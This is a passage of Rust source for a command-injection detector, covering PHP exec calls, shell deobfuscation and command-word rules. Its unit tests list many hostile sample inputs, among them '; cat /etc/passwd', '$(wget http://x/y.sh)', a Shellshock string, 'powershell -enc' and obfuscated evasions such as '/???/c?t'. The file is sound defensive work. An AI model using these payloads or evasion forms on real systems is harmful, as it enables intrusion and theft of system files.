        &b"system("[..],
        b"passthru(",
        b"shell_exec(",
        b"popen(",
        b"proc_open(",
        b"pcntl_exec(",
    ];
    for name in calls {
        if let Some(p) = memchr::memmem::find(t, name) {
            let arg = t.get(p + name.len()).copied();
            let word_start = p == 0 || !t[p - 1].is_ascii_alphanumeric();
            if word_start && matches!(arg, Some(b'\'' | b'"' | b'$' | b'`')) {
                return Some(("PHP command execution call", p));
            }
        }
    }
    for name in [&b"phpinfo()"[..], b"phpversion()", b"php_uname("] {
        if let Some(p) = memchr::memmem::find(t, name)
            && (p == 0 || !t[p - 1].is_ascii_alphanumeric())
        {
            return Some(("PHP environment disclosure call", p));
        }
    }
    // `exec('whoami')`, `eval('ls')`: generic names, so the string must hold a command.
    for name in [&b"exec("[..], b"eval(", b"execute("] {
        let Some(p) = memchr::memmem::find(t, name) else {
            continue;
        };
        let inner = &t[p + name.len()..];
        if matches!(inner.first(), Some(b'\'' | b'"' | b'`')) {
            let s = deobfuscate(&inner[1..]);
            if command_at(&s, 0, true).is_some() {
                return Some(("command in exec/eval call", p));
            }
            // The string is code to the callee: any command word starting it counts, the
            // English-looking ones (`echo`, `print`, `cat`) included.
            if let Some((k, word)) = word_at(&s, 0)
                && s.get(k + word.len()) == Some(&b' ')
                && (lookup(WEAK, word) || lookup(STRONG, word))
            {
                return Some(("command in exec/eval call", p));
            }
        }
    }
    None
}

/// `{$_GET["cmd"]}`, `${_REQUEST[x]}`: a PHP superglobal read inside an interpolation,
/// which runs attacker-chosen input as code in an `eval`'d or double-quoted string.
fn php_superglobal(t: &[u8]) -> Option<usize> {
    const NAMES: [&[u8]; 7] = [
        b"_get[",
        b"_post[",
        b"_request[",
        b"_cookie[",
        b"_server[",
        b"_files[",
        b"_env[",
    ];
    let mut from = 0;
    while let Some(off) = memchr::memchr(b'$', &t[from..]) {
        let at = from + off;
        from = at + 1;
        let rest = t[at + 1..].strip_prefix(b"{").unwrap_or(&t[at + 1..]);
        if NAMES.iter().any(|n| rest.starts_with(n)) {
            return Some(at);
        }
    }
    None
}

/// `for /f … in (…) do …` and `if exist|defined|errorlevel …`: cmd.exe control flow.
fn batch_control(t: &[u8]) -> Option<usize> {
    let mut from = 0;
    while let Some(off) = memchr::memmem::find(&t[from..], b"for ") {
        let at = from + off;
        from = at + 4;
        let window = &t[at..(at + 240).min(t.len())];
        let Some(i) = loop_list(window) else { continue };
        // cmd.exe loop variables are `%x` / `%%x`: prose ("for the win in (…) do") has none.
        if memchr::memchr(b'%', &window[..i]).is_none() {
            continue;
        }
        let tail = &window[i..];
        if memchr::memmem::find(tail, b") do").is_some()
            || memchr::memmem::find(tail, b")do").is_some()
        {
            return Some(at);
        }
    }
    for cond in [
        &b"if exist "[..],
        b"if defined ",
        b"if errorlevel ",
        b"%errorlevel%",
        b"if not exist ",
    ] {
        if let Some(p) = memchr::memmem::find(t, cond) {
            return Some(p);
        }
    }
    None
}

/// Offset of ` in (` (any run of blanks around `in`) in a `for` window.
fn loop_list(window: &[u8]) -> Option<usize> {
    let mut from = 0;
    while let Some(off) = memchr::memmem::find(&window[from..], b" in") {
        let at = from + off;
        from = at + 3;
        let after = window[at + 3..].iter().take_while(|b| **b == b' ').count();
        if window.get(at + 3 + after) == Some(&b'(') {
            return Some(at);
        }
    }
    None
}

/// A caret or backslash between letters, or a word holding two or more quotes
/// (`wh'o'ami`, `ti''me`, `c^md`); a lone apostrophe (`don't`) is prose.
fn in_word_obfuscation(t: &[u8]) -> bool {
    for word in
        t.split(|b| !(b.is_ascii_alphanumeric() || matches!(b, b'\'' | b'"' | b'^' | b'\\')))
    {
        let letters = word.iter().filter(|b| b.is_ascii_alphabetic()).count();
        if letters < 2 {
            continue;
        }
        let quotes = word.iter().filter(|b| matches!(b, b'\'' | b'"')).count();
        let inner = word.windows(3).any(|w| {
            w[0].is_ascii_alphabetic() && matches!(w[1], b'^' | b'\\') && w[2].is_ascii_alphabetic()
        });
        if quotes >= 2
            && word.iter().rposition(|b| b.is_ascii_alphabetic())
                > word.iter().position(|b| matches!(b, b'\'' | b'"'))
            || inner
        {
            return true;
        }
    }
    false
}

/// Searchers for needles looked for in nearly every value, built once:
/// `memmem::find` builds a searcher per call on values of 64 bytes and more.
static DEV_TCP: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new(b"/dev/tcp/"));
static HISTORY: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new(b"!-"));
static ALIAS: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new(b"alias "));
static IF: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new(b"if"));

/// Removes what a shell would remove before reading words.
fn deobfuscate(t: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(t.len());
    let mut i = 0;
    while i < t.len() {
        let rest = &t[i..];
        if let Some(n) = ifs_len(rest) {
            out.push(b' ');
            i += n;
            continue;
        }
        match rest[0] {
            b'\'' | b'"' | b'^' => {}
            // Terminal escapes (`\033[2A`, `\e[1m`) written out literally move the cursor
            // to hide what follows: drop them.
            b'\\' if ansi_len(rest) > 0 => i += ansi_len(rest) - 1,
            // A literal `\n` is a newline to the many sinks that unescape input.
            // `` \`whoami\` ``, `\$(id)`: escaped for one more layer of quoting, which the
            // sink strips before a shell sees the substitution.
            b'\\' if matches!(rest.get(1), Some(b'`' | b'$')) => {}
            b'\\' if matches!(rest.get(1), Some(b'n' | b'r')) => {
                out.push(b'\n');
                i += 1;
            }
            b'\\' if rest.get(1).is_some_and(|b| b.is_ascii_alphanumeric()) => {}
            // `$@ $* $! $? $- $_ $$ $#`: special parameters, empty in a fresh shell.
            b'$' if matches!(
                rest.get(1),
                Some(b'@' | b'*' | b'!' | b'?' | b'-' | b'_' | b'$' | b'#')
            ) =>
            {
                i += 1
            }
            b'$' if rest.starts_with(b"${shell}") || rest.starts_with(b"$shell") => {
                out.extend_from_slice(b"sh");
                i += if rest[1] == b'{' { 7 } else { 5 };
            }
            // `cat$u /etc$u/passwd`, `|$u wget`: short unset variables expand to nothing.
            b'$' if short_var(rest) > 0 => i += short_var(rest),
            b'{' | b'}' => out.push(b' '),
            b',' if out.iter().rev().take(40).any(|b| *b == b' ') && inside_brace(t, i) => {
                out.push(b' ')
            }
            b => out.push(b),
        }
        i += 1;
    }
    out
}

/// Length of a literal terminal escape (`\033[2a`, `\e[0m`, `\x1b[k`) at `rest`.
fn ansi_len(rest: &[u8]) -> usize {
    let intro = [&b"\\033["[..], b"\\e[", b"\\x1b["]
        .into_iter()
        .find(|p| rest.starts_with(p))
        .map_or(0, <[u8]>::len);
    if intro == 0 {
        return 0;
    }
    let params = rest[intro..]
        .iter()
        .take_while(|b| b.is_ascii_digit() || **b == b';')
        .count();
    match rest.get(intro + params) {
        Some(b) if b.is_ascii_alphabetic() => intro + params + 1,
        _ => 0,
    }
}

/// Length of a short variable name after `$` (`$u`, `$xx`) followed by a blank, `/`,
/// a separator or the end; 0 when `rest` is not one.
fn short_var(rest: &[u8]) -> usize {
    let name = rest[1..]
        .iter()
        .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
        .count();
    let first_alpha = rest.get(1).is_some_and(|b| b.is_ascii_alphabetic());
    let end = rest.get(1 + name).copied();
    let ends = matches!(end, None | Some(b' ' | b'/' | b';' | b'|' | b'&' | b'\n'));
    if first_alpha && (1..=3).contains(&name) && ends && !rest[1..].starts_with(b"ifs") {
        name
    } else {
        0
    }
}

fn inside_brace(t: &[u8], i: usize) -> bool {
    let back = &t[i.saturating_sub(64)..i];
    let open = back.iter().rposition(|b| *b == b'{');
    let close = back.iter().rposition(|b| *b == b'}');
    matches!((open, close), (Some(o), c) if c.is_none_or(|c| c < o))
}

/// Length of an `$IFS`-style separator at the start of `rest`.
fn ifs_len(rest: &[u8]) -> Option<usize> {
    for pat in [&b"${ifs}"[..], b"$ifs$9", b"${ifs%??}", b"$ifs"] {
        if rest.starts_with(pat) {
            return Some(pat.len());
        }
    }
    None
}

/// Offsets where a shell would start reading a command, with whether a separator
/// (rather than the start of the value) put it there.
fn command_positions(s: &[u8]) -> Vec<(usize, bool)> {
    let mut out = vec![(0, false)];
    if let Some(eq) = memchr::memchr(b'=', s) {
        out.push((eq + 1, false));
    }
    let mut i = 0;
    while i < s.len() {
        let b = s[i];
        let sep = match b {
            b';' | b'|' | b'&' | b'`' | b'\n' => 1,
            b'$' if s.get(i + 1) == Some(&b'(') => 2,
            _ => 0,
        };
        if sep > 0 {
            let mut k = i + sep;
            while matches!(s.get(k), Some(b'|' | b'&' | b'(')) {
                k += 1;
            }
            out.push((k, true));
            i = k;
            continue;
        }
        i += 1;
    }
    out
}

/// Reads the command word at `pos` and judges it.
fn command_at(s: &[u8], pos: usize, after_sep: bool) -> Option<&'static str> {
    let (k, word) = word_at(s, pos)?;
    let len = word.len();
    let pathed = word.contains(&b'/');
    let base = word.rsplit(|b| *b == b'/').next().unwrap_or(word);
    let base = base.strip_suffix(b".exe").unwrap_or(base);
    let end = s.get(k + len).copied();
    if !matches!(
        end,
        None | Some(b' ' | b';' | b'|' | b'&' | b'`' | b')' | b'<' | b'>' | b'\n' | b'$')
    ) {
        return None;
    }
    let rest = &s[k + len..];
    let args = arg_like(rest) || windows_net(base, rest);
    let base = interpreter_base(base);
    let english = lookup(ENGLISH, base);
    let strong = (lookup(STRONG, base) || base == b"netsh") && !english;
    let weak = english || lookup(WEAK, base);
    if !(strong || weak) {
        return None;
    }
    if PREFIXES.contains(&base) && prefixed_command(rest) {
        return Some("command behind a time/nohup-style prefix");
    }
    let bare_ok = matches!(end, None | Some(b';' | b'|' | b'&' | b'`' | b')' | b'\n'))
        || rest.starts_with(b"$(");
    if let Some(reason) = admin_or_inline(base, rest) {
        return Some(reason);
    }
    // `bin/cscli`, `/usr/bin/id`: a command named by its installation directory.
    let bin_path = pathed && (word.starts_with(b"/") || bin_dir(word));
    // `whoami;…` at the start of a value: the value itself opens a command list.
    let listed = matches!(end, Some(b';' | b'|' | b'&' | b'`'));
    match (after_sep, strong) {
        // A strong command word (no English homonym) right after a separator.
        (true, true) => Some("command after shell separator"),
        (true, false) if args => Some("command with arguments after shell separator"),
        (false, _) if bin_path && (args || bare_ok) => Some("command by absolute path"),
        (false, true) if args && !matches!(base, b"id" | b"w" | b"sh" | b"sc" | b"su") => {
            Some("command with shell-style arguments")
        }
        (false, true) if listed => Some("command opening a command list"),
        _ => None,
    }
}

/// The command word at `pos` (after blanks): its offset and bytes.
fn word_at(s: &[u8], pos: usize) -> Option<(usize, &[u8])> {
    let mut k = pos;
    while matches!(s.get(k), Some(b' ' | b'\n')) {
        k += 1;
    }
    let len = s
        .get(k..)?
        .iter()
        .take_while(|b| {
            b.is_ascii_alphanumeric()
                || matches!(b, b'/' | b'.' | b'_' | b'-' | b'?' | b'*' | b'[' | b']')
        })
        .count();
    let word = &s[k..k + len];
    if word.is_empty() || len > 64 {
        return None;
    }
    Some((k, word))
}

/// Words that run the command after them (`time sh -c id`, `nohup ifconfig`).
const PREFIXES: &[&[u8]] = &[
    b"time",
    b"nohup",
    b"strace",
    b"ltrace",
    b"sudo",
    b"doas",
    b"nice",
    b"ionice",
    b"timeout",
    b"env",
    b"xargs",
    b"exec",
    b"builtin",
    b"setsid",
    b"stdbuf",
    b"unbuffer",
    b"chroot",
    b"busybox",
    b"torsocks",
    b"proxychains",
];

/// After a prefix word: a strong command (not an English word) follows.
fn prefixed_command(rest: &[u8]) -> bool {
    let Some((_, word)) = word_at(rest, 0) else {
        return false;
    };
    if rest.first() != Some(&b' ') {
        return false;
    }
    let base = word.rsplit(|b| *b == b'/').next().unwrap_or(word);
    let base = interpreter_base(base);
    lookup(STRONG, base) && !lookup(ENGLISH, base)
}

/// `bin/…`, `sbin/…`, `system32/…` inside a relative command path.
fn bin_dir(word: &[u8]) -> bool {
    word.starts_with(b"bin/")
        || word.starts_with(b"sbin/")
        || memchr::memmem::find(word, b"/bin/").is_some()
        || memchr::memmem::find(word, b"/sbin/").is_some()
        || memchr::memmem::find(word, b"system32/").is_some()
}

/// `python3.10` → `python3`, `php7.4` → `php7`: interpreters named with a version.
fn interpreter_base(base: &[u8]) -> &[u8] {
    let Some(dot) = base.iter().position(|b| *b == b'.') else {
        return base;
    };
    let head = &base[..dot];
    let tail_is_version = base[dot + 1..]
        .iter()
        .all(|b| b.is_ascii_digit() || *b == b'.');
    let interp = [&b"python"[..], b"php", b"perl", b"ruby", b"lua", b"node"]
        .iter()
        .any(|i| head.starts_with(i));
    if tail_is_version && interp && dot + 1 < base.len() {
        head
    } else {
        base
    }
}

/// `net user …`, `net localgroup …`: Windows account and share commands.
fn windows_net(base: &[u8], rest: &[u8]) -> bool {
    const SUB: [&[u8]; 9] = [
        b" user",
        b" localgroup",
        b" view",
        b" share",
        b" use ",
        b" group",
        b" accounts",
        b" session",
        b" start",
    ];
    base == b"net" && SUB.iter().any(|s| rest.starts_with(s))
}

/// Exact or glob (`c?t`, `c*t`, `/???/`) vocabulary match.
fn lookup(list: &[&[u8]], word: &[u8]) -> bool {
    if !word.iter().any(|b| matches!(b, b'?' | b'*' | b'[')) {
        return list.contains(&word);
    }
    list.iter().any(|cand| glob(word, cand))
}

fn glob(pat: &[u8], s: &[u8]) -> bool {
    match (pat.first(), s.first()) {
        (None, None) => true,
        // `[abc]`, `[?]`: one byte from the set (a `?`/`*` inside stands for any byte).
        (Some(b'['), Some(c)) => match pat.iter().position(|b| *b == b']') {
            Some(close) if close > 1 => {
                let set = &pat[1..close];
                (set.contains(c) || set.iter().any(|b| matches!(b, b'?' | b'*')))
                    && glob(&pat[close + 1..], &s[1..])
            }
            _ => false,
        },
        (Some(b'*'), _) => glob(&pat[1..], s) || (!s.is_empty() && glob(pat, &s[1..])),
        (Some(b'?'), Some(_)) => glob(&pat[1..], &s[1..]),
        (Some(p), Some(c)) if p == c => glob(&pat[1..], &s[1..]),
        _ => false,
    }
}

/// The text after a command word looks like shell arguments: an option, a path, a
/// URL, a variable, a redirection, a number or an IP address.
fn arg_like(rest: &[u8]) -> bool {
    let mut k = 0;
    while rest.get(k) == Some(&b' ') {
        k += 1;
    }
    if k == 0 && !matches!(rest.first(), Some(b'<' | b'>')) {
        return false;
    }
    let a = &rest[k..];
    match a.first() {
        Some(b'-' | b'/' | b'$' | b'%' | b'<' | b'>' | b'~' | b'.' | b'*' | b'`') => true,
        Some(b'0'..=b'9') => true,
        Some(b'c') if a.get(1) == Some(&b':') => true,
        _ => a.starts_with(b"http") || a.starts_with(b"ftp:") || a.starts_with(b"127."),
    }
}

#[cfg(test)]
mod tests {
    use super::detect;

    fn assert_flagged(values: &[&str]) {
        for s in values {
            assert!(
                detect(s.as_bytes()).is_some(),
                "{s} should be command injection"
            );
        }
    }

    fn assert_clean(values: &[&str]) {
        for s in values {
            assert!(
                detect(s.as_bytes()).is_none(),
                "{s} should not be command injection"
            );
        }
    }

    #[test]
    fn commands_in_shell_context_are_flagged() {
        assert_flagged(&[
            "127.0.0.1; cat /etc/passwd",
            "x|id",
            "a && whoami",
            "`uname -a`",
            "$(wget http://x/y.sh)",
            "\n/usr/bin/id\n",
            "x;c'a't${ifs}/etc/passwd",
            "x;/???/c?t /etc/passwd",
            "x|c^m^d /c dir",
            "() { :; }; /bin/bash -c id",
            "x;{cat,/etc/passwd}",
            "x; ping -c 3 127.0.0.1",
            "x & powershell -enc abc",
            "'wh'oami",
            "for /f %a in ('dir /b') do echo %a",
            "x;iwr http://x/a.ps1",
        ]);
    }

    #[test]
    fn shell_only_syntax_is_flagged() {
        assert_flagged(&[
            "x=$[2+2]",
            "x=$((1+1))",
            "x=${path#{}/}",
            "x=>(tee log)",
            "x=~-1",
            "x=!-1!-2",
            "x=alias +m a=b",
            "x=>/tmp/out",
            "x=\n\nrcpt to:<postmaster>",
            "x=\n\na001 examine inbox",
            "x=;\\n.databases",
            "x=c{a,oun}t /etc/hosts",
            "x={,ip,a}",
            "x={/?s?/?i?/c?t,}",
            "x=/usr/bin/[u]name -a",
            "x=cat /[e//]tc/[p//]asswd",
            "x=sh$xx -c whoami",
            "x=${shell} -c \"echo hi\"",
        ]);
    }

    #[test]
    fn look_alikes_of_shell_syntax_are_not_flagged() {
        assert_clean(&[
            "filter=$[0].name",
            "fields={id,name}",
            "tags={\"a\",\"b\"}",
            "dir=~",
            "q=wow!-1 day",
            "q=what an alias",
            "q=a > b",
            "text=dear team,\nhelp me",
            "v=~1.2",
            "price=$5 off",
            "q=time for a change",
            "q=if you exist",
        ]);
    }

    #[test]
    fn code_injection_and_escaped_substitutions_are_flagged() {
        assert_flagged(&[
            "eval('echo xxxxxxxx')",
            "exec('echo 1')",
            ";{$_get[\"cmd\"]}",
            "${_request[x]}",
            "| sysinfo",
            "&& sysinfo",
            "?user=\\`whoami\\`",
            "q=|| ",
            "q=\n\n",
            "`",
        ]);
        assert_clean(&[
            "evaluate('echo chamber')",
            "price=$_99",
            "cost \\$5",
            "q=",
            "q= ",
            "a|b",
        ]);
    }

    #[test]
    fn english_and_ordinary_values_are_not_flagged() {
        assert_clean(&[
            "tom & jerry",
            "cats | dogs",
            "see; more info",
            "q=find my phone",
            "name=id",
            "ls",
            "type=cat",
            "rock;n;roll",
            "o'keefe's cafe",
            "for the win in (a way) do it",
            "1; exec will create the case 7",
        ]);
    }
}
